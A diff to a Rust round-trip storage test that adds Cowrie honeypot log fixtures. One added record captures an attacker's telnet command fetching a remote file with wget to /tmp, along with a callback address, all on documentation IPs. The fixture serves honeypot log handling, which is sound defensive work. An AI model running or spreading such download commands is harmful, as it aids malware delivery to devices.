@@ -76,6 +76,8 @@ fn every_field_round_trips_through_the_store() {
         r#"{"ts":"2016-04-03T00:00:02Z","event":"packet","kind":"probe","proto":47,"proto_name":"GRE","src":"203.0.113.9","dst":"198.51.100.7","ip_len":64,"os":"Windows XP SP1"}"#,
         r#"{"ts":"2016-04-03T00:00:03Z","event":"packet","kind":"flow_start","proto":6,"proto_name":"tcp","src":"203.0.113.9","sport":1,"dst":"198.51.100.7","dport":80}"#,
         r#"{"ts":"1969-12-31T23:59:59Z","event":"log_stopped"}"#,
+        r#"{"ts":"2016-04-03T00:00:04.5Z","sensor":"tokyo-1","event":"session","eventid":"cowrie.session.file_download","session":"a1b2c3d4e5f6","protocol":"telnet","src_ip":"203.0.113.9","src_port":40000,"dst_ip":"198.51.100.7","dst_port":23,"timestamp":"2016-04-03T00:00:04.500000Z","input":"wget http://198.51.100.1/a","url":"http://198.51.100.1:8080/a","host":"198.51.100.1","port":8080,"method":"wget","outfile":"artifacts/abab","destfile":"/tmp/a","shasum":"abab","size":1234,"arch":"arm","callback":"198.51.100.1:4444","duration":1.5,"message":"Downloaded URL","profile":"dvr"}"#,
+        r#"{"eventid":"cowrie.client.var","name":"TERM","value":"xterm","src_ip":"2001:db8::9","session":"9f8e7d6c5b4a","sensor":"c","timestamp":"2016-04-03T00:00:05Z","uuid":"x"}"#,
     ];
     let dir = tempfile::tempdir().unwrap();
     let input = dir.path().join("events.jsonl");
